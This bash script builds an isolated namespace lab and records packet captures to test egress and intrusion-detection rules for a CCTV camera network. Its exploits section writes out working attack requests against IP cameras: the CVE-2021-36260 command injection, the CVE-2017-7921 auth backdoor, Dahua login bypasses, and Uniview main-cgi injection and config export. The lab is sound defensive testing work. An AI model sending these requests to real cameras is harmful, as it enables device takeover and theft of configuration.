#!/usr/bin/env bash
# Regenerates the captures the default rule packs are tested on (the `tests:` of
# rules/*.yaml; lab.yaml is the egressd config they are replayed with): real clients
# talking to real servers in throwaway network namespaces, recorded by tcpdump on the
# camera's interface (what a mirror port of its switch port would show).
#
#   bash rules/tests/make-captures.sh              # all captures
#   bash rules/tests/make-captures.sh egress       # only rules/tests/egress.pcap
#
# NETWORK SAFETY. Every packet stays inside the namespaces made here (egr-rt-*), between
# addresses assigned to their own interfaces: the CCTV VLAN 10.20.0.0/24 and a "core"
# network 10.1.0.0/24 on one bridge, and the lab's "internet" (192.0.2.0/24,
# 198.51.100.0/24, 203.0.113.0/24, documentation ranges) in one namespace behind a
# router namespace. No namespace has a default route or an interface outside the lab;
# /etc/netns/egr-rt-*/resolv.conf points the clients at the lab's own DNS server. The
# namespaces, their processes and those files are removed on exit, failure included.
#
#   sw      bridge br0 (the VLAN's switch) + the router: 10.20.0.1 on br0, 192.0.2.1,
#           198.51.100.1, 203.0.113.1 towards inet; 203.0.113.66 is blackholed (an
#           unanswered SYN); NAT-PMP and a UPnP IGD (labnet.py router)
#   cam     the camera under test, 10.20.0.11 (MAC with a Hikvision OUI), ISAPI-style
#           web API, RTSP, DVRIP port (labnet.py camera). Every capture is taken here.
#   cam2    another camera, 10.20.0.12 (busybox httpd)
#   nvr     the NVR, 10.20.0.2 (ffmpeg receiving the camera's RTSP stream)
#   dns     the local resolver, 10.20.0.53 (dnsmasq: local names, and the vendor and
#           other "internet" names answered with documentation addresses)
#   ntp     the local time server, 10.20.0.123 (chronyd)
#   mgmt    the management workstation, 10.20.0.5 (curl)
#   laptop  an unknown laptop on the VLAN, 10.20.0.200 (dnsmasq TFTP, labnet.py laptop)
#   core    a file server on the core network, 10.1.0.10 (busybox httpd)
#   inet    the internet: nginx (HTTP, TLS with SNI, WebDAV PUT), dnsmasq (a public
#           resolver), openssl s_server (DNS over TLS), chronyd (a public NTP server),
#           ffmpeg (an RTSP receiver), labnet.py inet (Dahua P2P, ISUP), and curl,
#           ffprobe and labnet.py as the attacker 203.0.113.50
#
# Needs root and the Debian packages iproute2 tcpdump dnsmasq-base nginx-light openssl
# curl bind9-dnsutils python3 busybox chrony ntpsec-ntpdig ffmpeg miniupnpc natpmpc.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
P=egr-rt
NSS=(sw cam cam2 nvr dns ntp mgmt laptop core inet)
ALL=(benign benign-management vendor-cloud firmware egress segmentation exfiltration exploits)
want=("$@")
[ ${#want[@]} -gt 0 ] || want=("${ALL[@]}")
for w in "${want[@]}"; do
  [[ " ${ALL[*]} " == *" $w "* ]] || { echo "unknown capture $w (one of: ${ALL[*]})" >&2; exit 2; }
done
[ "$(id -u)" = 0 ] || { echo "needs root (network namespaces)" >&2; exit 1; }
PY=/usr/bin/python3

tmp=$(mktemp -d /tmp/egr-rt.XXXXXX)
chmod 755 "$tmp"
dump=

remove_lab() {
  for ns in "${NSS[@]}"; do
    # Only our own servers run in these namespaces.
    for pid in $(ip netns pids "$P-$ns" 2>/dev/null || true); do kill -9 "$pid" 2>/dev/null || true; done
    ip netns del "$P-$ns" 2>/dev/null || true
    rm -rf "/etc/netns/$P-$ns"
  done
}
cleanup() {
  set +e
  [ -z "$dump" ] || kill "$dump" 2>/dev/null
  remove_lab
  rm -rf "$tmp"
}
trap cleanup EXIT
remove_lab # left over from a run that was killed

nsx() { local ns=$1; shift; ip netns exec "$P-$ns" "$@"; }
# A server in the background; its output goes to $tmp/NAME.log.
bg() { local ns=$1 name=$2; shift 2; nsx "$ns" "$@" >"$tmp/$name.log" 2>&1 & }
# Waits until `ss` in NS lists a listening socket "PROTO ADDR:PORT".
listening() {
  local ns=$1 want=$2
  for _ in $(seq 100); do
    if nsx "$ns" ss -Hlntu | awk '{print $1" "$5}' | grep -qx "$want"; then return 0; fi
    sleep 0.05
  done
  echo "not listening in $ns: $want" >&2
  tail -n 20 "$tmp"/*.log >&2 || true
  exit 1
}

# --- the lab ------------------------------------------------------------------------------

for ns in "${NSS[@]}"; do
  ip netns add "$P-$ns"
  # IPv4 only: no router solicitations, MLD or ND in the captures.
  nsx "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip -n "$P-$ns" link set lo up
done
ip -n $P-sw link add br0 address 02:00:0a:14:00:01 type bridge forward_delay 0
ip -n $P-sw addr add 10.20.0.1/24 dev br0
ip -n $P-sw link set br0 up
nsx sw sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 \
  net.ipv4.conf.br0.send_redirects=0

# host NS MAC ADDRESS/PREFIX: a host on the VLAN's bridge.
host() {
  ip link add eth0 netns "$P-$1" address "$2" type veth peer name "p-$1" netns $P-sw
  ip -n $P-sw link set "p-$1" master br0 up
  ip -n "$P-$1" addr add "$3" dev eth0
  ip -n "$P-$1" link set eth0 up
}
host cam 44:19:b6:0d:0c:11 10.20.0.11/24
host cam2 44:19:b6:0d:0c:12 10.20.0.12/24
host nvr 44:19:b6:0d:0c:02 10.20.0.2/24
host dns 02:00:0a:14:00:35 10.20.0.53/24
host ntp 02:00:0a:14:00:7b 10.20.0.123/24
host mgmt 02:00:0a:14:00:05 10.20.0.5/24
host laptop 02:00:0a:14:00:c8 10.20.0.200/24
host core 02:00:0a:01:00:0a 10.1.0.10/24
# The core network shares the link (so its server keeps its own MAC in the capture).
ip -n $P-cam route add 10.1.0.0/24 dev eth0
ip -n $P-core route add 10.20.0.0/24 dev eth0
# Only the camera has routes to the lab's internet, through the router.
for net in 192.0.2.0/24 198.51.100.0/24 203.0.113.0/24; do
  ip -n $P-cam route add "$net" via 10.20.0.1
done

ip link add up0 netns $P-sw address 02:00:c6:33:64:01 type veth peer name eth0 netns $P-inet \
  address 02:00:c6:33:64:02
for a in 192.0.2.1/24 198.51.100.1/24 203.0.113.1/24; do ip -n $P-sw addr add "$a" dev up0; done
ip -n $P-sw link set up0 up
ip -n $P-sw route add blackhole 203.0.113.66/32
INET_ADDRS=(192.0.2.20 192.0.2.21 192.0.2.22 192.0.2.23 192.0.2.27 192.0.2.80 192.0.2.120
  192.0.2.121 198.51.100.8 198.51.100.25 198.51.100.53 198.51.100.77 198.51.100.80
  203.0.113.24 203.0.113.30 203.0.113.40 203.0.113.50 203.0.113.80 203.0.113.123)
for a in "${INET_ADDRS[@]}"; do ip -n $P-inet addr add "$a/24" dev eth0; done
ip -n $P-inet link set eth0 up
# Connections the internet opens to the camera come from the attacker's address.
ip -n $P-inet route add 10.20.0.0/24 via 198.51.100.1 src 203.0.113.50

# The camera resolves names with the local resolver (ip netns exec mounts this file).
mkdir -p /etc/netns/$P-cam
printf 'nameserver 10.20.0.53\noptions timeout:2 attempts:1\n' >/etc/netns/$P-cam/resolv.conf

# --- files ----------------------------------------------------------------------------------

mkdir -p "$tmp/www/hik" "$tmp/www/dahua" "$tmp/www/fw" "$tmp/tftp" "$tmp/core" "$tmp/cam2" "$tmp/dav" "$tmp/body"
# Deterministic filler bytes after each magic.
filler() { $PY -c "import hashlib,sys
n=int(sys.argv[1]); out=b''; i=0
while len(out)<n: out+=hashlib.sha256(b'egressd-lab-%d'%i).digest(); i+=1
sys.stdout.buffer.write(out[:n])" "$1"; }
# digicap.dav: older Hikvision images start E9 9A F7 B6 on the wire (camera-indicators.md 2).
{ printf '\xe9\x9a\xf7\xb6'; filler 4092; } >"$tmp/www/hik/digicap.dav"
cp "$tmp/www/hik/digicap.dav" "$tmp/tftp/digicap.dav"
cp "$tmp/www/hik/digicap.dav" "$tmp/digicap.dav"
# A Dahua .bin: a ZIP whose local header says DH instead of PK (section 2); 16 KiB, enough
# to cross the tests' transfer thresholds (12KB) and keep the capture small.
DAHUA_BIN=DH_IPC-HX2XXX_Eng_P_V2.800.0000000.0.R.bin
{ printf 'DH\x03\x04'; filler 16380; } >"$tmp/www/dahua/$DAHUA_BIN"
cp "$tmp/www/dahua/$DAHUA_BIN" "$tmp/$DAHUA_BIN"
# A generic embedded-Linux root file system: squashfs, little-endian magic "hsqs".
{ printf 'hsqs'; filler 2044; } >"$tmp/www/fw/rootfs.img"
# What the camera uploads in the exfiltration capture: 20 KiB of "video".
filler 20480 >"$tmp/clip.mp4"
printf '<!doctype html><title>lab</title>\n' | tee "$tmp/www/index.html" "$tmp/core/index.html" \
  "$tmp/cam2/index.html" >/dev/null
chmod -R a+rX "$tmp"

# One self-signed P-256 certificate for every TLS name the lab serves.
SANS=litedev.hik-connect.com,dev.ys7.com,ezcloud.uniview.com,p2p.amcrestview.com,dns.google
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
  -keyout "$tmp/key.pem" -out "$tmp/cert.pem" -subj /CN=lab.example.test \
  -addext "subjectAltName=$(sed 's/\([^,]*\)/DNS:\1/g' <<<"$SANS")" 2>/dev/null

cat >"$tmp/nginx.conf" <<EOF
daemon off;
master_process off;
user root;
error_log stderr;
pid $tmp/nginx.pid;
events {}
http {
  access_log off;
  default_type application/octet-stream;
  client_body_temp_path $tmp/body; proxy_temp_path $tmp/body; fastcgi_temp_path $tmp/body;
  uwsgi_temp_path $tmp/body; scgi_temp_path $tmp/body;
  ssl_certificate $tmp/cert.pem; ssl_certificate_key $tmp/key.pem;
  server {
    listen 203.0.113.80:80; listen 198.51.100.80:80; listen 192.0.2.80:80;
    listen 192.0.2.21:8666; listen 192.0.2.121:8666;
    root $tmp/www;
    location = /upgrade/check { default_type application/json; return 200 '{"update":false}\n'; }
  }
  server {
    listen 192.0.2.20:443 ssl; listen 192.0.2.120:443 ssl; listen 192.0.2.22:443 ssl;
    listen 192.0.2.27:443 ssl;
    listen 198.51.100.25:443 ssl; listen 198.51.100.8:443 ssl;
    root $tmp/www;
  }
  server {
    listen 203.0.113.40:8080;
    root $tmp/dav;
    location /upload/ { dav_methods PUT; create_full_put_path on; client_max_body_size 10m; }
  }
}
EOF

chrony_conf() { # NAME ADDRESS
  cat >"$tmp/chrony-$1.conf" <<EOF
local stratum 8
allow
bindaddress $2
port 123
cmdport 0
pidfile $tmp/chrony-$1.pid
EOF
}
chrony_conf ntp 10.20.0.123
chrony_conf inet 203.0.113.123

# --- servers --------------------------------------------------------------------------------

DNSMASQ=(dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts
  --bind-interfaces --pid-file= --user=root --log-facility=-)
# The local resolver: local names, and the names the camera's firmware would look up,
# answered with the lab's internet addresses (vendor names from camera-indicators.md 1).
bg dns dnsmasq-local "${DNSMASQ[@]}" --port=53 --listen-address=10.20.0.53 \
  --host-record=nvr.cctv.lan,10.20.0.2 --host-record=ntp.cctv.lan,10.20.0.123 \
  --host-record=litedev.hik-connect.com,192.0.2.20 --host-record=devcl.ys7.com,192.0.2.21 \
  --host-record=dev.ys7.com,192.0.2.22 --host-record=www.easy4ipcloud.com,192.0.2.23 \
  --host-record=ezcloud.uniview.com,192.0.2.27 --host-record=p2p.amcrestview.com,198.51.100.25 \
  --host-record=telemetry.example.com,192.0.2.80 --host-record=cdn.example.net,198.51.100.80 \
  --host-record=dns.google,198.51.100.8 --host-record=pool.ntp.org,203.0.113.123 \
  --host-record=firmware.example.com,203.0.113.80
# A public resolver on the internet (the DNS-bypass target).
bg inet dnsmasq-public "${DNSMASQ[@]}" --port=53 --listen-address=198.51.100.53 \
  --address=/example.org/198.51.100.80
# The laptop's TFTP server (DNS off).
bg laptop dnsmasq-tftp "${DNSMASQ[@]}" --port=0 --listen-address=10.20.0.200 \
  --enable-tftp --tftp-root="$tmp/tftp"
bg inet nginx nginx -c "$tmp/nginx.conf" -p "$tmp" -e stderr
bg inet dot openssl s_server -quiet -accept 198.51.100.53:853 -cert "$tmp/cert.pem" \
  -key "$tmp/key.pem"
bg ntp chronyd-ntp chronyd -d -x -u root -f "$tmp/chrony-ntp.conf"
bg inet chronyd-inet chronyd -d -x -u root -f "$tmp/chrony-inet.conf"
bg inet labnet-inet $PY "$here/labnet.py" serve inet
bg sw labnet-router $PY "$here/labnet.py" serve router
bg cam labnet-camera $PY "$here/labnet.py" serve camera
bg laptop labnet-laptop $PY "$here/labnet.py" serve laptop
bg cam2 httpd-cam2 busybox httpd -f -p 10.20.0.12:80 -h "$tmp/cam2"
bg core httpd-core busybox httpd -f -p 10.1.0.10:80 -h "$tmp/core"

listening dns "udp 10.20.0.53:53"
listening inet "udp 198.51.100.53:53"
listening laptop "udp 10.20.0.200:69"
listening inet "tcp 203.0.113.80:80"
listening inet "tcp 198.51.100.8:443"
listening inet "tcp 203.0.113.40:8080"
listening inet "tcp 198.51.100.53:853"
listening ntp "udp 10.20.0.123:123"
listening inet "udp 203.0.113.123:123"
listening inet "udp 192.0.2.23:8800"
listening inet "tcp 203.0.113.24:7660"
listening sw "udp 10.20.0.1:5351"
listening sw "tcp 10.20.0.1:5000"
listening cam "tcp 10.20.0.11:80"
listening cam "tcp 10.20.0.11:554"
listening laptop "udp 10.20.0.200:9978"
listening cam2 "tcp 10.20.0.12:80"
listening core "tcp 10.1.0.10:80"
# chronyd answers once it has taken its local reference.
sleep 1

# An RTSP receiver (ffmpeg in listen mode takes one ANNOUNCE/RECORD session, then exits).
rtsp_receiver() { # NS NAME ADDRESS
  bg "$1" "$2" ffmpeg -hide_banner -nostdin -loglevel error -rtsp_flags listen -timeout 20 \
    -i "rtsp://$3:554/live" -f null -
  listening "$1" "tcp $3:554"
}
# The camera's encoder: 1 s of a 160x120 test pattern at 5 fps, about 10 kB.
FFSRC=(ffmpeg -hide_banner -nostdin -loglevel error -re -f lavfi -i testsrc=size=160x120:rate=5
  -t 1 -c:v mpeg4 -b:v 24k -g 10 -fflags +bitexact -flags +bitexact)

# --- captures -------------------------------------------------------------------------------

capture_start() {
  out="$here/$1.pcap"
  err="$tmp/tcpdump-$1.err" # a new file each time: the wait below must not see an old one
  ip netns exec $P-cam tcpdump -i eth0 -n --immediate-mode -U -Z root -w "$out" 2>"$err" &
  dump=$!
  until grep -qs "listening on" "$err"; do sleep 0.05; done
}
capture_stop() {
  sleep 0.5 # the last answers and FIN/ACKs
  kill -INT "$dump"
  wait "$dump" || true
  dump=
  if ! grep -qx "0 packets dropped by kernel" "$err"; then
    cat "$err" >&2
    exit 1
  fi
  echo "${out#"$here/"}: $(grep -o '^[0-9]* packets captured' "$err"), $(stat -c %s "$out") bytes"
}
on() { nsx "$@" >/dev/null; }                       # a client, must succeed
# tls NS HOST:PORT SNI: a TLS handshake (openssl s_client, which quits at end of input).
tls() { nsx "$1" openssl s_client -connect "$2" -servername "$3" </dev/null >/dev/null 2>&1; }
anyway() { nsx "$@" >/dev/null 2>&1 || true; }      # a client whose failure is the point
CURL=(curl -sS -o /dev/null --max-time 10)

cap_benign() {
  rtsp_receiver nvr rtsp-nvr 10.20.0.2
  capture_start benign
  on cam dig +tries=1 +time=2 nvr.cctv.lan A
  on cam ntpdig -t 2 ntp.cctv.lan
  on cam "${FFSRC[@]}" -f rtsp -rtsp_transport tcp rtsp://nvr.cctv.lan:554/live
  capture_stop
}

cap_benign-management() {
  capture_start benign-management
  # The management workstation upgrades the camera and follows the upgrade.
  on mgmt "${CURL[@]}" -X PUT -H 'Content-Type: application/octet-stream' \
    --data-binary @"$tmp/digicap.dav" http://10.20.0.11/ISAPI/System/updateFirmware
  on mgmt "${CURL[@]}" http://10.20.0.11/ISAPI/System/upgradeStatus
  on mgmt "${CURL[@]}" 'http://10.20.0.11/ISAPI/System/onlineUpgrade/version?check=true'
  capture_stop
}

cap_vendor-cloud() {
  capture_start vendor-cloud
  # Hik-Connect platform access: lookup, then TLS with SNI.
  tls cam litedev.hik-connect.com:443 litedev.hik-connect.com
  # EZVIZ device registration, devcl.ys7.com TCP 8666 (cleartext here).
  on cam "${CURL[@]}" http://devcl.ys7.com:8666/
  # Dahua P2P rendezvous: DHGET /probe/p2psrv to UDP 8800.
  on cam $PY "$here/labnet.py" dhget www.easy4ipcloud.com
  # Uniview EZCloud over HTTPS.
  on cam "${CURL[@]}" -k https://ezcloud.uniview.com/
  # An Amcrest name ([U]): looked up only.
  on cam dig +tries=1 +time=2 p2p.amcrestview.com A
  # Hard-coded addresses it never looked up: Hik-Connect by SNI, EZVIZ by Host header.
  tls cam 192.0.2.120:443 litedev.hik-connect.com
  on cam "${CURL[@]}" -H 'Host: dev.ezvizlife.com' http://192.0.2.121:8666/
  # ISUP/EHome registration to an operator-set platform address, TCP 7660.
  on cam $PY "$here/labnet.py" isup 203.0.113.24 7660
  capture_stop
}

cap_firmware() {
  capture_start firmware
  # The camera pulls firmware: digicap.dav, a large Dahua image, an update check.
  on cam "${CURL[@]}" http://firmware.example.com/hik/digicap.dav
  on cam "${CURL[@]}" "http://firmware.example.com/dahua/$DAHUA_BIN"
  on cam "${CURL[@]}" http://firmware.example.com/fw/rootfs.img
  anyway cam "${CURL[@]}" 'http://firmware.example.com/upgrade/check?model=DS-2CD2043G2&version=V5.7.3'
  # The EZVIZ OTA query host, dev.ys7.com:443.
  tls cam dev.ys7.com:443 dev.ys7.com
  # Pushes from devices that are not management: the unknown laptop (ISAPI) ...
  on laptop "${CURL[@]}" -X PUT -H 'Content-Type: application/octet-stream' \
    --data-binary @"$tmp/digicap.dav" http://10.20.0.11/ISAPI/System/updateFirmware
  on laptop "${CURL[@]}" -X PUT -H 'Content-Type: application/xml' \
    --data '<upgrade><type>online</type></upgrade>' http://10.20.0.11/ISAPI/System/onlineUpgrade/upgrade
  on laptop "${CURL[@]}" http://10.20.0.11/ISAPI/System/upgradeStatus
  # ... and the internet (Dahua upgrader.cgi multipart upload, CloudUpgrader).
  on inet "${CURL[@]}" --interface 203.0.113.50 -F "file=@$tmp/$DAHUA_BIN" \
    'http://10.20.0.11/cgi-bin/upgrader.cgi?action=uploadFirmware'
  on inet "${CURL[@]}" --interface 203.0.113.50 -X POST -H 'Content-Type: application/json' \
    --data '{"method":"CloudUpgrader.execute","params":null,"id":1}' \
    http://10.20.0.11/cgi-bin/api/CloudUpgrader/execute
  # TFTP reflash: the SWKH handshake 9979 -> 9978, then TFTP for digicap.dav.
  on cam $PY "$here/labnet.py" swkh 10.20.0.200
  on cam busybox tftp -g -r digicap.dav -l /dev/null 10.20.0.200 2>/dev/null
  capture_stop
}

cap_egress() {
  capture_start egress
  # Answered, by name: a US CDN, and a host in China.
  on cam "${CURL[@]}" http://cdn.example.net/
  on cam "${CURL[@]}" http://telemetry.example.com/
  # Refused (RST from a closed port) and unanswered (blackholed), both hard-coded.
  anyway cam "${CURL[@]}" --connect-timeout 2 http://198.51.100.77:8443/
  anyway cam "${CURL[@]}" --connect-timeout 2 https://203.0.113.66/
  # DNS bypass: a public resolver instead of the local one.
  on cam dig +tries=1 +time=2 @198.51.100.53 example.org A
  # DNS over TLS (853), and DNS over HTTPS to dns.google (RFC 8484 GET).
  tls cam 198.51.100.53:853 dns.google
  anyway cam "${CURL[@]}" -k -H 'Accept: application/dns-message' \
    'https://dns.google/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDb3JnAAABAAE'
  # NTP from a public pool instead of the local server.
  on cam ntpdig -t 2 pool.ntp.org
  # Port mappings on the gateway: NAT-PMP, then UPnP IGD AddPortMapping.
  on cam natpmpc -g 10.20.0.1 -a 8000 80 tcp 3600
  on cam upnpc -u http://10.20.0.1:5000/rootDesc.xml -a 10.20.0.11 80 8000 TCP
  capture_stop
}

cap_segmentation() {
  capture_start segmentation
  # The core network: a web page (answered) and SMB (refused).
  on cam "${CURL[@]}" http://10.1.0.10/
  anyway cam "${CURL[@]}" --connect-timeout 2 telnet://10.1.0.10:445
  # Another camera's web interface.
  on cam "${CURL[@]}" http://10.20.0.12/
  # The unknown laptop: a web page (answered) and SSH (refused).
  on cam "${CURL[@]}" http://10.20.0.200:8080/
  anyway cam "${CURL[@]}" --connect-timeout 2 telnet://10.20.0.200:22
  # Allowed: the local DNS server and NTP.
  on cam dig +tries=1 +time=2 ntp.cctv.lan A
  on cam ntpdig -t 2 10.20.0.123
  capture_stop
}

cap_exfiltration() {
  rtsp_receiver inet rtsp-inet 203.0.113.30
  capture_start exfiltration
  # 20 KiB uploaded to the internet at about 8 KiB/s (2.5 s), and to the unknown laptop.
  on cam "${CURL[@]}" --limit-rate 8k -T "$tmp/clip.mp4" http://203.0.113.40:8080/upload/clip.mp4
  on cam "${CURL[@]}" -T "$tmp/clip.mp4" http://10.20.0.200:8080/clip.mp4
  # The camera pushes its stream with RTSP, and as bare RTP over UDP.
  on cam "${FFSRC[@]}" -f rtsp -rtsp_transport tcp rtsp://203.0.113.30:554/live
  on cam "${FFSRC[@]}" -f rtp rtp://203.0.113.30:5004
  # The internet pulls the camera's stream.
  anyway inet ffprobe -hide_banner -loglevel error -rtsp_transport tcp \
    -i rtsp://10.20.0.11:554/Streaming/Channels/101
  capture_stop
}

cap_exploits() {
  capture_start exploits
  local A=(--interface 203.0.113.50)
  # CVE-2021-36260: command injection in PUT /SDK/webLanguage, then fetch the output.
  anyway inet "${CURL[@]}" "${A[@]}" -X PUT \
    -H 'Content-Type: application/x-www-form-urlencoded; charset=UTF-8' \
    --data '<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>' \
    http://10.20.0.11/SDK/webLanguage
  anyway inet "${CURL[@]}" "${A[@]}" http://10.20.0.11/x
  # CVE-2017-7921: the auth= backdoor parameter.
  on inet "${CURL[@]}" "${A[@]}" 'http://10.20.0.11/system/deviceInfo?auth=YWRtaW46MTEK'
  # CVE-2021-33044: global.login as NetKeyboard / Direct over HTTP.
  on inet "${CURL[@]}" "${A[@]}" -X POST -H 'Content-Type: application/json' \
    --data '{"id":1,"method":"global.login","params":{"authorityType":"Default","clientType":"NetKeyboard","loginType":"Direct","password":"Not Used","passwordType":"Default","userName":"admin"},"session":0}' \
    http://10.20.0.11/RPC2_Login
  # CVE-2021-33045: global.login as Local / Loopback over DHIP (TCP 37777).
  on inet $PY "$here/labnet.py" dhip 10.20.0.11 37777 203.0.113.50
  # Uniview main-cgi: cmd 264 injection (URL-encoded) and cmd 255 config export (raw JSON).
  on inet "${CURL[@]}" "${A[@]}" \
    'http://10.20.0.11/cgi-bin/main-cgi?json=%7B%22cmd%22%3A264%2C%22status%22%3A1%2C%22bSelectAllPort%22%3A1%2C%22stSelPort%22%3A0%2C%22bSelectAllIp%22%3A1%2C%22stSelIp%22%3A0%2C%22stSelNicName%22%3A%22eth0%3Bid%3E%2Ftmp%2Fx%3B%22%7D'
  on inet "${CURL[@]}" "${A[@]}" -g 'http://10.20.0.11/cgi-bin/main-cgi?json={"cmd":255,"szUserName":"","u32UserLoginHandle":-1}'
  capture_stop
}

for w in "${want[@]}"; do "cap_$w"; done
